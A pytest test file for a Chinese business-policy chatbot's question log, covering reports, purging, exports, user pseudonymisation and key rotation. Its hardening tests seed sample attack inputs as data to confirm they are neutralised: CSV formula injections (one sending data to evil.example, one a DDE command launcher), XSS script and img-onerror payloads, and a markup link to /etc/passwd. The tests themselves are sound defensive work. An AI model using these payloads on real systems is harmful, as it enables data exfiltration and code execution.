"""The question log: report on a seeded log, purge, export, and that raw user ids never reach the file."""
from __future__ import annotations

import csv
import json
import re
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from bot.core.types import Answer, Citation, Reward
from bot.qlog import QuestionLog, pseudonym

NOW = time.time()
DAY = 86400
REWARD = ["晋城企业营收首次达到5亿元奖励多少", "营收第一次突破5亿能拿多少奖励", "企业营业收入首次达5亿元，有什么奖励？"]
CONTACT = ["专业镇的事找哪个部门", "申报专业镇应该联系哪个单位"]
CRITERIA = ["区级专业镇认定标准是什么", "认定区级专业镇需要什么条件"]


def _answer(status, total=None):
    cites = [Citation("晋城市支持专业镇高质量发展若干政策", "晋市政办〔2023〕39号", "一、（二）", "…",
                      "jc-2023-39/1-2")] if status == "answered" else []
    rewards = [Reward("营收首次达5亿元", total, "晋市政办〔2023〕39号", "r1")] if total else []
    return Answer(status, "…", cites, rewards, total, rule_ids=["r1"] if total else [])


def _seed(path):
    """(question, user, channel, status, age in seconds); 10 reward, 3 contact, 2 criteria questions."""
    rows = []
    for i in range(10):
        rows.append((REWARD[i % 3] if i < 6 else REWARD[0], f"u{i}", "telegram" if i % 2 else "web",
                     "answered", (i % 3) * DAY + 600))
    rows += [(CONTACT[0], "c1", "wechat", "answered", DAY + 60), (CONTACT[0], "c2", "web", "answered", 2 * DAY),
             (CONTACT[1], "c3", "telegram", "answered", 3 * DAY)]
    rows += [(CRITERIA[0], "r1", "web", "answered", 100), (CRITERIA[1], "r2", "web", "answered", 200)]
    # not found, twice
    rows += [("今天天气怎么样", "w1", "web", "not_found", 300), ("今天天气怎么样", "w2", "telegram", "not_found", 400)]
    # clarify then silence: abandoned; clarify then an answer 5 minutes later: not; clarify, next after 5 h: abandoned
    rows += [("我能拿多少奖励", "a1", "telegram", "clarify", 2 * DAY),
             ("我们镇够不够申报", "a2", "web", "clarify", DAY + 3000), ("年营收6亿元", "a2", "web", "answered", DAY + 2700),
             ("补贴怎么算", "a3", "web", "clarify", 3 * DAY), ("补贴怎么算，营收2亿", "a3", "web", "answered", 3 * DAY - 5 * 3600)]
    # outside the 7-day window
    rows += [("很久以前的问题", "old", "web", "answered", 30 * DAY)]
    log = QuestionLog(path, salt="test-salt")
    ids = {}
    for q, user, channel, status, age in rows:
        # the reward questions were asked by owners in 晋城 (the runtime logs the region from their facts)
        qid = log.record(channel, user, q, _answer(status, 100000 if q in REWARD else None), 120.0,
                         region="晋城市" if q in REWARD else None)
        log.db["questions"].update(qid, {"ts": NOW - age})
        ids.setdefault(q, qid)
    log.feedback(ids[CONTACT[1]], -1, "电话打不通")
    log.feedback(ids[REWARD[0]], +1)
    return log


def test_report_on_a_seeded_log(tmp_path):
    from scripts.logs_admin import group_questions
    log = _seed(tmp_path / "q.sqlite")
    rep = log.report(7 * DAY, now=NOW)
    assert rep["total"] == 22
    assert sum(sum(v.values()) for v in rep["volume"].values()) == 22
    assert rep["not_found"] == [("今天天气怎么样", 2)]
    assert sorted(rep["clarify_abandoned"]) == [("我能拿多少奖励", 1), ("补贴怎么算", 1)]
    assert [(n["question"], n["reason"]) for n in rep["negative"]] == [(CONTACT[1], "电话打不通")]
    assert rep["positive"] == 1
    groups = group_questions(rep["questions"])
    by_member = {q: g for g in groups for q, _ in g.examples}
    for cluster, count in ((REWARD, 10), (CONTACT, 3), (CRITERIA, 2), (["今天天气怎么样"], 2)):
        g = by_member[cluster[0]]
        assert {q for q, _ in g.examples} == set(cluster) and g.count == count, g
    assert groups[0].label == REWARD[0] and groups[1].label == CONTACT[0]
    assert [c for _, c in groups[0].examples] == [6, 2, 2]      # most frequent wording first


def run_report(tmp_path, monkeypatch):
    """`logs report --since 7d` on the log in tmp_path/data; (result, report folder)."""
    from scripts.logs_admin import group
    monkeypatch.setenv("PZ_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("PZ_LOG_SALT", "test-salt")
    out = tmp_path / "report"
    res = CliRunner().invoke(group, ["report", "--since", "7d", "--out", str(out)], catch_exceptions=False)
    assert res.exit_code == 0, res.output
    return res, out


def test_report_command_writes_tables_csv_and_charts(tmp_path, monkeypatch):
    data = tmp_path / "data"
    _seed(data / "questions.sqlite").close()
    res, out = run_report(tmp_path, monkeypatch)
    assert "Most frequent questions" in res.output and CONTACT[0] in res.output and "电话打不通" in res.output
    with open(out / "question_groups.csv", encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert (rows[0]["question"], rows[0]["count"]) == (REWARD[0], "10")
    with open(out / "volume_by_day.csv", encoding="utf-8-sig") as f:
        assert sum(int(r["total"]) for r in csv.DictReader(f)) == 22
    assert rows[0]["region"] == "晋城市" and rows[1]["region"] == "未说明地区"
    with open(out / "not_found.csv", encoding="utf-8-sig") as f:
        found = list(csv.reader(f))
    qid = int(found[1][2])
    assert found[1:] == [["2", "今天天气怎么样", str(qid), f"python -m bot answers curate {qid}"]]
    for png in ("volume_by_day.png", "top_question_groups.png"):
        assert (out / png).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert "python -m bot answers curate ID" in res.output
    assert (out / "report.html").exists()


def test_purge_removes_old_questions_from_the_file(tmp_path):
    path = tmp_path / "q.sqlite"
    log = _seed(path)
    assert log.purge(7, now=NOW) == 1
    assert log.purge(7, now=NOW) == 0
    assert all(r["question"] != "很久以前的问题" for r in log.rows())
    log.close()
    data = path.read_bytes() + (path.with_name(path.name + "-wal").read_bytes()
                                if path.with_name(path.name + "-wal").exists() else b"")
    assert "很久以前的问题".encode() not in data


def test_purge_command_uses_the_configured_retention(tmp_path, monkeypatch):
    from scripts.logs_admin import group
    data = tmp_path / "data"
    _seed(data / "questions.sqlite").close()
    monkeypatch.setenv("PZ_DATA_DIR", str(data))
    res = CliRunner().invoke(group, ["purge", "--yes"])        # retention 365 days: nothing that old
    assert res.exit_code == 0 and "Deleted 0" in res.output
    res = CliRunner().invoke(group, ["purge", "--older-than", "10", "--yes"])
    assert res.exit_code == 0 and "Deleted 1" in res.output


def test_export_csv_and_jsonl(tmp_path, monkeypatch):
    from scripts.logs_admin import group
    data = tmp_path / "data"
    _seed(data / "questions.sqlite").close()
    monkeypatch.setenv("PZ_DATA_DIR", str(data))
    res = CliRunner().invoke(group, ["export", "--format", "jsonl"])
    rows = [json.loads(line) for line in res.output.splitlines()]
    assert len(rows) == 23 and {"user_hash", "question", "status"} <= set(rows[0])
    assert not any(k in rows[0] for k in ("user", "user_id"))
    out = tmp_path / "x.csv"
    res = CliRunner().invoke(group, ["export", "--out", str(out)])
    assert res.exit_code == 0
    assert len(list(csv.DictReader(out.open(encoding="utf-8")))) == 23


def test_raw_user_ids_never_reach_the_database_file(tmp_path):
    path = tmp_path / "q.sqlite"
    log = QuestionLog(path, salt="s3cret")
    raw = ["tg-user-7391846620", 7391846621, "oXq9-wechat-openid-ZZtop"]
    for u in raw:
        qid = log.record("telegram", u, "我能拿多少奖励", _answer("clarify"), 5.0)
        log.feedback(qid, -1, "没有回答")
    hashes = {r["user_hash"] for r in log.rows()}
    assert hashes == {pseudonym(u, "s3cret") for u in raw}
    blobs = b"".join(p.read_bytes() for p in tmp_path.iterdir() if p.name.startswith("q.sqlite"))
    assert (tmp_path / "q.sqlite-wal").exists()          # WAL mode: the WAL is checked too
    for u in raw:
        assert str(u).encode() not in blobs
    log.close()
    blobs = b"".join(p.read_bytes() for p in tmp_path.iterdir() if p.name.startswith("q.sqlite"))
    for u in raw:
        assert str(u).encode() not in blobs


def test_logging_errors_never_fail_the_answer(tmp_path, caplog):
    log = QuestionLog(tmp_path / "q.sqlite")
    log.db.conn.close()   # any database failure
    assert log.record("web", 1, "问题", _answer("answered"), 1.0) is None
    assert log.feedback(1, 1) is None              # None: could not be written (False: no such question)
    assert "could not record" in caplog.text


def test_new_migration_applies_to_an_existing_log(tmp_path):
    import sqlite_utils

    from bot.qlog import m001_questions, migrations
    path = tmp_path / "old.sqlite"
    db = sqlite_utils.Database(str(path))
    migrations.apply(db, stop_before="m002_user_time_index")
    assert "m002_user_time_index" in {m.name for m in migrations.pending(db)}
    db["questions"].insert({"ts": NOW, "channel": "web", "user_hash": "x", "question": "旧问题", "status": "answered"})
    db.close()
    log = QuestionLog(path)
    assert not migrations.pending(log.db)
    assert any(ix.columns == ["user_hash", "channel", "ts"] for ix in log.db["questions"].indexes)
    assert [r["question"] for r in log.rows()] == ["旧问题"]
    assert m001_questions   # the first migration is kept as it was


# ---------------------------------------------------------------------------------------------
# Hardening (issue 11)

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            "\r=1+1", "=cmd|' /C calc'!A0"]


def _injected_log(path):
    log = QuestionLog(path, salt="test-salt")
    for i, q in enumerate(FORMULAS):
        qid = log.record("web", f"x{i}", q, _answer("not_found"), 1.0)
        log.feedback(qid, -1, "=1+2")
    log.record("web", "y", "正常的问题 = 没有公式", _answer("not_found"), 1.0)
    return log


def _formula_cells(rows):
    return [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_csv_export_neutralises_formulas(tmp_path, monkeypatch):
    from scripts.logs_admin import group
    data = tmp_path / "data"
    _injected_log(data / "questions.sqlite").close()
    monkeypatch.setenv("PZ_DATA_DIR", str(data))
    monkeypatch.setenv("PZ_LOG_SALT", "test-salt")
    out = tmp_path / "x.csv"
    res = CliRunner().invoke(group, ["export", "--out", str(out)], catch_exceptions=False)
    assert res.exit_code == 0, res.output
    with open(out, encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert _formula_cells(rows) == []
    questions = [r[rows[0].index("question")] for r in rows[1:]]
    assert questions[:len(FORMULAS)] == ["'" + q for q in FORMULAS]   # kept, readable, but inert
    assert questions[-1] == "正常的问题 = 没有公式"                      # other text untouched
    assert {r[rows[0].index("feedback_reason")] for r in rows[1:-1]} == {"'=1+2"}
    assert {r[rows[0].index("feedback")] for r in rows[1:-1]} == {"-1"}  # numbers stay numbers
    res = CliRunner().invoke(group, ["export", "--format", "jsonl"])
    assert [json.loads(x)["question"] for x in res.output.splitlines()][:len(FORMULAS)] == FORMULAS


def test_report_csvs_neutralise_formulas_and_tables_show_markup_literally(tmp_path, monkeypatch):
    data = tmp_path / "data"
    log = _injected_log(data / "questions.sqlite")
    log.record("web", "z", "[/bold] [link=file:///etc/passwd]点[/link] \x1b[2J", _answer("not_found"), 1.0)
    log.close()
    res, out = run_report(tmp_path, monkeypatch)
    assert "[/bold]" in res.output and "\x1b" not in res.output and "\\x1b" in res.output
    for name in ("question_groups.csv", "not_found.csv", "negative_feedback.csv"):
        with open(out / name, encoding="utf-8-sig", newline="") as f:
            rows = list(csv.reader(f))
        assert len(rows) > 1 and _formula_cells(rows) == [], name
    with open(out / "not_found.csv", encoding="utf-8-sig", newline="") as f:
        assert ["1", "'" + FORMULAS[0]] in [r[:2] for r in csv.reader(f)]


def test_pseudonyms_are_keyed_and_the_key_is_kept_outside_the_database(tmp_path):
    path = tmp_path / "q.sqlite"
    log = QuestionLog(path)                                   # no key given: a key file beside the data
    key_file = tmp_path / "log.key"
    assert key_file.exists() and key_file.stat().st_mode & 0o777 == 0o600
    key = key_file.read_text().strip()
    assert len(key) >= 64 and log.key == key
    log.record("telegram", 7391846623, "问题", _answer("answered"), 1.0)
    assert log.rows()[0]["user_hash"] == pseudonym(7391846623, key)
    log.close()
    blobs = b"".join(p.read_bytes() for p in tmp_path.iterdir() if p.name.startswith("q.sqlite"))
    assert key.encode() not in blobs
    # brute force over the id space with what is in the database alone does not find the user
    import hashlib
    h = QuestionLog(path).rows()[0]["user_hash"]
    assert all(hashlib.sha256(f"\x00{u}".encode()).hexdigest()[:20] != h for u in range(7391846600, 7391846650))
    assert QuestionLog(path).key == key                        # read again, not replaced
    assert QuestionLog(tmp_path / "other.sqlite", "env-key").key == "env-key"


def test_old_databases_forget_their_stored_salt(tmp_path):
    import sqlite_utils

    from bot.qlog import migrations
    path = tmp_path / "old.sqlite"
    db = sqlite_utils.Database(str(path))
    migrations.apply(db, stop_before="m003_question_session")
    db.execute("CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT)")
    db.execute("INSERT INTO meta VALUES ('salt', 'cafebabe0123456789abcdefdeadbeef')")
    db["questions"].insert({"ts": NOW, "channel": "web", "user_hash": "0123456789abcdef0123",
                            "question": "旧问题", "status": "answered"})
    db.conn.commit()
    db.close()
    log = QuestionLog(path)
    assert not migrations.pending(log.db)
    assert not log.db["meta"].exists()
    assert "session_hash" in log.db["questions"].columns_dict
    assert [(r["question"], r["user_hash"]) for r in log.rows()] == [("旧问题", "0123456789abcdef0123")]
    log.close()
    blobs = b"".join(p.read_bytes() for p in tmp_path.iterdir() if p.name.startswith("old.sqlite"))
    assert b"cafebabe0123456789abcdefdeadbeef" not in blobs    # the salt is gone from the file


def test_feedback_only_from_the_session_that_asked(tmp_path):
    log = QuestionLog(tmp_path / "q.sqlite", "k")
    qid = log.record("web", "s1", "问题", _answer("answered"), 1.0, session="session-one")
    assert log.feedback(qid, -1, "不对", session="session-two") is False
    assert log.feedback(qid + 1, -1, session="session-one") is False
    assert log.feedback(2**70, -1, session="session-one") is False
    assert log.rows()[0]["feedback"] is None
    assert log.feedback(qid, -1, "不对", session="session-one") is True
    assert (log.rows()[0]["feedback"], log.rows()[0]["feedback_reason"]) == (-1, "不对")


def test_rotate_key_and_purge_sessions_commands(tmp_path, monkeypatch):
    from bot.config import load_config
    from bot.runtime import Runtime
    from scripts.logs_admin import group
    from tests.fakes.wechat_fakes import FakeAssistant
    data = tmp_path / "data"
    monkeypatch.setenv("PZ_DATA_DIR", str(data))
    monkeypatch.delenv("PZ_LOG_SALT", raising=False)
    monkeypatch.delenv("PZ_LOG_KEY", raising=False)
    cfg = load_config()
    rt = Runtime.start(cfg, assistant=FakeAssistant())
    rt.ask_sync("web", "u1", "晋城高平，营收首次过了5亿，奖励多少")
    old_key, old_hash = rt.qlog.key, rt.qlog.rows()[0]["user_hash"]
    age_session(rt, "stale", days=3)
    rt.close()
    res = CliRunner().invoke(group, ["purge-sessions"], catch_exceptions=False)
    assert res.exit_code == 0 and "Deleted 1 session" in res.output and "1 left" in res.output
    res = CliRunner().invoke(group, ["rotate-key", "--yes"], catch_exceptions=False)
    assert res.exit_code == 0, res.output
    assert cfg.log_key_path.stat().st_mode & 0o777 == 0o600
    rt = Runtime.start(cfg, assistant=FakeAssistant())
    try:
        assert rt.qlog.key != old_key and rt.sessions.count() == 0
        assert rt.profile("web", "u1") == []                          # the conversation was forgotten
        turn = rt.ask_sync("web", "u1", "奖励多少")
        assert turn.answer.status == "clarify"
        assert rt.qlog.rows()[-1]["user_hash"] != old_hash            # a new pseudonym from now on
        assert rt.feedback("web", "u1", rt.qlog.rows()[0]["id"], 1) is False   # votes on old answers: no
    finally:
        rt.close()
    monkeypatch.setenv("PZ_LOG_KEY", "from-the-environment")
    res = CliRunner().invoke(group, ["rotate-key", "--yes"])
    assert res.exit_code != 0 and "PZ_LOG_KEY" in res.output


def age_session(runtime, sid: str, days: float, facts: dict | None = None) -> None:
    """A session last used `days` ago (saved, then its time set back in the file)."""
    import sqlite3

    from bot.core.types import Session
    runtime.sessions.save(Session(id=sid, facts=facts or {"region": "晋城市泽州县", "revenue": 300_000_000}))
    with sqlite3.connect(runtime.config.sessions_db) as db:
        db.execute("UPDATE sessions SET updated_at = ? WHERE id = ?", [time.time() - days * DAY, sid])


def test_since_parsing():
    from scripts.logs_admin import parse_since
    assert parse_since("7d") == 7 * DAY and parse_since("12h") == 12 * 3600 and parse_since("2w") == 14 * DAY
    assert parse_since("3") == 3 * DAY
    import click
    with pytest.raises(click.BadParameter):
        parse_since("last week")


def test_raw_user_ids_never_reach_any_database_through_the_runtime(runtime):
    """Every channel goes through Runtime.ask: neither the log nor the sessions keep the raw id."""
    raw = 7391846622
    turn = runtime.ask_sync("telegram", raw, "晋城的专业镇企业营收首次达到5亿元，能拿多少奖励？")
    assert runtime.feedback("telegram", raw, turn.question_id, -1, "金额不对") is True
    runtime.ask_sync("wechat", "oXq9-openid-rawtest", "找哪个部门？")
    data_dir = runtime.config.data_dir
    blobs = b"".join(p.read_bytes() for p in data_dir.rglob("*.sqlite*"))
    assert runtime.config.log_db.exists() and b"SQLite format 3" in blobs
    assert str(raw).encode() not in blobs and b"oXq9-openid-rawtest" not in blobs
    rows = runtime.qlog.rows()
    assert [r["feedback_reason"] for r in rows] == ["金额不对", None]


# ---------------------------------------------------------------------------------------------
# Reports that read well (issue 12): groups within one region, fragments, Chinese chart labels, the HTML
# page with the command that curates each weak answer, datasette

def _regional_log(path):
    """Owners in 高平 and 泽州 asking the same thing, some saying the place only in an earlier message
    (the runtime logs the region from their facts), and fragments that only name a place."""
    log = QuestionLog(path, salt="test-salt")
    asked = [("高平的企业营收首次过了5亿，奖励多少", "高平市")] * 3 + [("高平企业营收首次突破5亿能拿多少钱", "高平市")] \
        + [("营收首次过了5亿，奖励多少", "高平市")] * 2 \
        + [("泽州的企业营收首次过了5亿，奖励多少", "泽州县")] * 2 + [("营收首次过了5亿，奖励多少", "泽州县")] \
        + [("阳城的", "阳城县"), ("那阳城的呢？", "阳城县"), ("阳城", "阳城县")]
    ids = []
    for i, (q, region) in enumerate(asked):
        ids.append(log.record("web", f"o{i}", q, _answer("answered", 300000), 50.0, region=region,
                              conversation=f"c{i}"))
    return log, ids


def test_question_groups_stay_within_one_region_and_fragments_are_not_questions(tmp_path):
    from kb.regions import Gazetteer
    from scripts.logs_admin import normalise_wording, regional_groups
    gaz = Gazetteer.load()
    log, _ = _regional_log(tmp_path / "q.sqlite")
    rep = log.report(7 * DAY)
    groups, fragments = regional_groups(rep, gaz=gaz)
    assert fragments == 3
    for g in groups:
        named = {gaz.find_in(q).name for q, _ in g.examples if gaz.find_in(q)}
        assert named <= {g.region}, g                      # no group mixes 高平 and 泽州 questions
    by_region = {g.region: g for g in groups}
    assert set(by_region) == {"高平市", "泽州县"}
    assert by_region["高平市"].count == 6 and by_region["泽州县"].count == 3
    assert not any("阳城" in q for g in groups for q, _ in g.examples)
    # wordings that differ only in particles, punctuation or a place's short name are one
    assert normalise_wording("那阳城的呢？", gaz) == normalise_wording("阳城县", gaz) == "阳城县"
    assert normalise_wording("高平营收5亿奖励多少？", gaz) == "高平市营收5亿奖励多少"


def _html_log(path):
    log = QuestionLog(path, salt="test-salt")
    xss = "<script>alert(1)</script>奖励多少"
    nf = log.record("web", "x1", xss, _answer("not_found"), 1.0)
    bad = log.record("web", "x2", "高平的企业营收首次过了5亿，奖励多少", _answer("answered", 100000), 1.0,
                     region="高平市")
    log.db["questions"].update(bad, {"answer": "可获10万元奖励 <b>依据</b>"})
    log.feedback(bad, -1, "金额不对 <img src=x onerror=alert(2)>")
    return log, nf, bad


def test_html_report_is_escaped_embeds_its_charts_and_says_how_to_curate(tmp_path, monkeypatch, caplog):
    import base64
    from html.parser import HTMLParser

    data = tmp_path / "data"
    log, nf, bad = _html_log(data / "questions.sqlite")
    log.close()
    _, out = run_report(tmp_path, monkeypatch)
    page = (out / "report.html").read_text(encoding="utf-8")

    class Tags(HTMLParser):
        def __init__(self):
            super().__init__()
            self.tags, self.imgs, self.text = [], [], []

        def handle_starttag(self, tag, attrs):
            self.tags.append(tag)
            if tag == "img":
                self.imgs.append(dict(attrs)["src"])

        def handle_data(self, data):
            self.text.append(data)
    parsed = Tags()
    parsed.feed(page)
    text = "".join(parsed.text)
    # what owners typed is shown as text, never as markup
    assert "script" not in parsed.tags and parsed.tags.count("img") == 2 and "b" not in parsed.tags
    assert "<script>alert(1)</script>奖励多少" in text and "金额不对 <img src=x onerror=alert(2)>" in text
    assert "可获10万元奖励 <b>依据</b>" in text
    # both charts are in the page itself (it can be mailed on its own) and are the PNGs beside it
    assert sorted(parsed.imgs) == sorted("data:image/png;base64," + base64.b64encode((out / n).read_bytes()).decode()
                                         for n in ("volume_by_day.png", "top_question_groups.png"))
    # beside each weak answer, the command that curates it
    for qid in (nf, bad):
        assert f"python -m bot answers curate {qid}" in text
    rows = re.findall(r"<tr>(.*?)</tr>", page, re.S)
    assert any("金额不对" in r and f"answers curate {bad}<" in r for r in rows)
    assert any("alert(1)" in r and f"answers curate {nf}<" in r for r in rows)
    assert "高平市" in text and "高频问题" in text
    assert "cannot draw" not in caplog.text and "no Chinese font" not in caplog.text


def test_chart_labels_are_drawn_with_a_chinese_font():
    import warnings

    import matplotlib
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    from matplotlib import font_manager

    from scripts.logs_admin import QuestionGroup, chart_rc, cjk_font, draws, groups_figure
    font = cjk_font()
    assert font, "no Chinese font: `make test` installs fonts-wqy-microhei (scripts/install_fonts.sh)"
    groups = [QuestionGroup("高平的企业营收首次过了5亿，奖励多少", 6, [], "高平市"),
              QuestionGroup("阳城有哪些市级专业镇", 2, [], "阳城县"), QuestionGroup("找哪个部门", 1, [], "")]
    with plt.rc_context(chart_rc(font)), warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        fig = groups_figure(groups, font)
        fig.canvas.draw()
        labels = [t for t in fig.axes[0].get_yticklabels() if t.get_text()] + [fig.axes[0].title]
        assert {t.get_text() for t in labels} >= {"高平市｜高平的企业营收首次过了5亿，奖励多少", "未说明地区｜找哪个部门"}
        for t in labels:
            used = font_manager.findfont(t.get_fontproperties(), fallback_to_default=False)
            assert draws(used, t.get_text()), (t.get_text(), used)
        plt.close(fig)
    assert not [w for w in caught if "missing from" in str(w.message)]
    # the check can fail: matplotlib's default font has no Chinese glyphs
    assert not draws(font_manager.findfont("DejaVu Sans"), "高平")


def test_the_documented_datasette_command_opens_the_log(tmp_path):
    """The command in docs/staff.md, run on a seeded log with datasette's --get (no server started)."""
    import shlex

    from datasette.cli import cli
    path = tmp_path / "questions.sqlite"
    _seed(path).close()
    doc = (Path(__file__).resolve().parent.parent / "docs" / "staff.md").read_text(encoding="utf-8")
    commands = [shlex.split(c.replace("\\\n", " ")) for c in re.findall(r"^\s+(\S*datasette serve (?:.*\\\n)*.*)$", doc, re.M)]
    assert commands, "docs/staff.md shows no `datasette serve` command"
    for argv in commands:
        argv = [str(path) if a.endswith(".sqlite") else a for a in argv[1:]]
        i = argv.index("--immutable") if "--immutable" in argv else argv.index("-i")
        assert argv[i + 1] == str(path)                  # --immutable takes the file
        res = CliRunner().invoke(cli, [*argv, "--get", "/questions/questions.json?_shape=array&status=not_found"])
        assert res.exit_code == 0, res.output
        assert [r["question"] for r in json.loads(res.output)] == ["今天天气怎么样", "今天天气怎么样"]


async def test_datasette_reads_the_log_as_json(tmp_path):
    from datasette.app import Datasette
    path = tmp_path / "questions.sqlite"
    log, ids = _regional_log(path)
    log.feedback(ids[0], -1, "金额不对")
    log.close()
    before = path.read_bytes()
    ds = Datasette(immutables=[str(path)])
    await ds.invoke_startup()
    resp = await ds.client.get("/questions/questions.json?_shape=array&_size=max&_sort=id")
    rows = resp.json()
    assert resp.status_code == 200 and len(rows) == len(ids)
    assert {"answer", "qtype", "conversation", "region", "user_hash"} <= set(rows[0])
    assert rows[0]["region"] == "高平市" and rows[0]["feedback_reason"] == "金额不对"
    resp = await ds.client.get("/questions/questions.json?_facet=region&_size=0")
    facets = {r["value"]: r["count"] for r in resp.json()["facet_results"]["region"]["results"]}
    assert facets == {"高平市": 6, "泽州县": 3, "阳城县": 3}
    resp = await ds.client.get("/questions/questions.json?_shape=array&feedback=-1")
    assert [r["id"] for r in resp.json()] == [ids[0]]
    assert path.read_bytes() == before                   # opened read-only
